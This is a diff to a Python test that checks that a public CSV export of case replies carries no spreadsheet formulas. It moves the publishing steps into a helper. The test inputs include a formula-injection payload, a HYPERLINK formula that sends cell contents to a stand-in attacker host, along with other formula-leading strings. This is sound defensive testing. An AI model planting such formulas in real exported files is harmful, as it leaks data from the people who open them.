@@ -16,7 +16,7 @@ from xml.etree import ElementTree
 import pytest
 
 from tests.api.conftest import Api
-from tests.api.proposer_support import issued, ok
+from tests.api.proposer_support import issued, published
 from tests.paperwork_support import demo_server
 
 AS_OF = "2026-06-30"
@@ -251,15 +251,7 @@ def test_the_open_data_file_holds_no_formula_for_a_spreadsheet_to_run_R_P2(api: 
     titles = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)", "-2+3", "关于=的建议"]
     for n, title in enumerate(titles):
         case_id, reply_id = issued(api, f"+CSV-{n}", title=title)
-        review = {
-            "reply_id": reply_id,
-            "approved": True,
-            "note": "同意",
-            "occurred_on": "2025-04-16",
-        }
-        ok(api.post(f"/v1/cases/{case_id}/disclosure-review", review, "office"))
-        publish = {"reply_id": reply_id, "published_on": "2025-04-17", "url": f"https://x.cn/{n}"}
-        ok(api.post(f"/v1/cases/{case_id}/disclosure", publish, "office"))
+        published(api, case_id, reply_id, f"https://x.cn/{n}")
     sheet = api.get("/v1/public/replies.csv", None)
     lines = list(csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))))[1:]
     assert sorted((line[0], line[3]) for line in lines) == sorted(
